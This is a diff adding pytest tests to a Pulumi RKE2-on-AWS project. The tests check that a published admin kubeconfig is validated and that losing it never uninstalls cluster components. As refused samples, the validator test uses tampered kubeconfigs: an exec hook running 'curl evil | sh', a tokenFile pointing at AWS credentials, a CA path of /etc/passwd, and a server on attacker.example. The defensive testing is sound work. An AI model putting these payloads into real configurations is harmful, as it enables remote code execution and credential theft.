@@ -124,3 +124,107 @@ def test_rke1_without_the_cli_says_what_to_run(tmp_path, monkeypatch, capsys):
     monkeypatch.setenv("PATH", str(tmp_path))  # no pulumi anywhere
     assert kubeconfig.main(["rke-dev", "--from", str(source)]) == 1
     assert "pulumi config set --secret kubeconfig --stack rke-dev" in capsys.readouterr().err
+
+
+# ---- what a published kubeconfig may contain ------------------------------------------------------
+
+API = "https://api.rke2-dev.rke-aws.internal:6443"
+
+
+def _tampered(**changes) -> str:
+    import yaml
+
+    doc = yaml.safe_load(KUBECONFIG)
+    for path, value in changes.items():
+        section, key = path.split(".")
+        doc[section][0][section[:-1]][key] = value
+    return yaml.safe_dump(doc)
+
+
+@pytest.mark.parametrize("text, problem", [
+    (KUBECONFIG, None),
+    (_tampered(**{"users.exec": {"command": "sh", "args": ["-c", "curl evil | sh"]}}), "exec"),
+    (_tampered(**{"users.auth-provider": {"name": "oidc"}}), "auth-provider"),
+    (_tampered(**{"users.tokenFile": "/home/me/.aws/credentials"}), "tokenFile"),
+    (_tampered(**{"clusters.certificate-authority": "/etc/passwd"}), "certificate-authority"),
+    (_tampered(**{"clusters.server": "https://attacker.example:6443"}), "attacker.example"),
+    (KUBECONFIG.replace("users:\n", "users:\n- name: second\n  user: {}\n"), "2 users"),
+    ("not: [valid", "not YAML"),
+    ("kind: Secret\n", "not a kubeconfig"),
+])
+def test_only_what_rke2_writes_is_accepted(text, problem):
+    from components.secrets import published_kubeconfig_problem
+
+    found = published_kubeconfig_problem(text, API)
+    assert (found is None) if problem is None else (problem in (found or "")), found
+
+
+def _published(value: str, *, previous_from: str = "rke2-prod", kubeconfig_param: bool = True, **config):
+    """Run rke2-prod again over its own outputs, with `value` in the published parameter."""
+    from offline import harness
+    from offline.mocks import AwsLikeMocks
+    from tests.conftest import run_stack_cached, set_key
+
+    first = run_stack_cached(previous_from)
+    outputs = dict(first.outputs)
+    if not kubeconfig_param:
+        outputs.pop("rke2KubeconfigParameter", None)
+    cfg = harness.stack_config("rke2-prod")
+    for k, v in config.items():
+        set_key(cfg, k, v)
+    mocks = AwsLikeMocks(cfg["aws:region"])
+    mocks.parameters["/rke-aws/rke2-prod/admin-kubeconfig"] = value
+    return harness.run_program(cfg, stack="rke2-prod", mocks=mocks, previous_outputs=outputs), mocks
+
+
+def _published_text() -> str:
+    return KUBECONFIG.replace("rke2-dev", "rke2-prod")
+
+
+def test_the_next_pulumi_up_installs_with_the_published_kubeconfig():
+    run, _ = _published(_published_text())
+    (provider,) = run.of_type("pulumi:providers:kubernetes")
+    assert provider.inputs["kubeconfig"] == _published_text() and "kubeconfig" in provider.secret_inputs
+    assert any("using the admin kubeconfig the first server published" in m for _, m in run.logs)
+
+
+def test_a_tampered_published_kubeconfig_is_refused_before_anything_is_registered():
+    import pulumi
+
+    with pytest.raises(pulumi.RunError, match=r"rke-aws:kubeconfig: .*admin-kubeconfig is refused: .*exec"):
+        _published(_published_text().replace("client-key-data: a2V5LW1hcmtlcg==",
+                                             "client-key-data: a2V5LW1hcmtlcg==, exec: {command: sh}"))
+
+
+def test_losing_the_kubeconfig_never_uninstalls_what_the_last_update_installed():
+    """Pulumi deletes what a program stops declaring: without a kubeconfig the CCM, the upgrade
+    machinery and the EBS CSI driver would be uninstalled from the running cluster."""
+    import pulumi
+
+    from tests.conftest import run_stack_cached
+
+    assert run_stack_cached("rke-phase2").outputs["installedInCluster"] == ["aws-cloud-controller-manager",
+                                                                         "aws-ebs-csi-driver"]
+    installed, _ = _published(_published_text())
+    assert installed.outputs["installedInCluster"] == ["aws-cloud-controller-manager", "system-upgrade-controller",
+                                                       "aws-ebs-csi-driver"]
+    from offline import harness
+    from offline.mocks import AwsLikeMocks
+
+    for value in ("pending", None):  # not published (yet / any more), or not readable with these credentials
+        mocks = AwsLikeMocks("us-west-2")
+        if value is not None:
+            mocks.parameters["/rke-aws/rke2-prod/admin-kubeconfig"] = value
+        with pytest.raises(pulumi.RunError, match=r"installed aws-cloud-controller-manager, system-upgrade-controller, "
+                                                  r"aws-ebs-csi-driver in the cluster .* would uninstall them") as info:
+            harness.run_program(harness.stack_config("rke2-prod"), stack="rke2-prod", mocks=mocks,
+                                previous_outputs=installed.outputs)
+        assert "kms:Decrypt" in str(info.value), str(info.value)
+        assert not mocks.resources, "registered before refusing"
+
+
+def test_an_existing_cluster_gets_no_kubeconfig_key_or_parameter():
+    """Its first server never re-reads its user data, so it would never publish."""
+    run, _ = _published("pending", kubeconfig_param=False)
+    assert not run.of_type("aws:kms/key:Key") and "rke2KubeconfigParameter" not in run.outputs
+    assert not [p for p in run.of_type("aws:ssm/parameter:Parameter") if p.inputs["name"].endswith("admin-kubeconfig")]
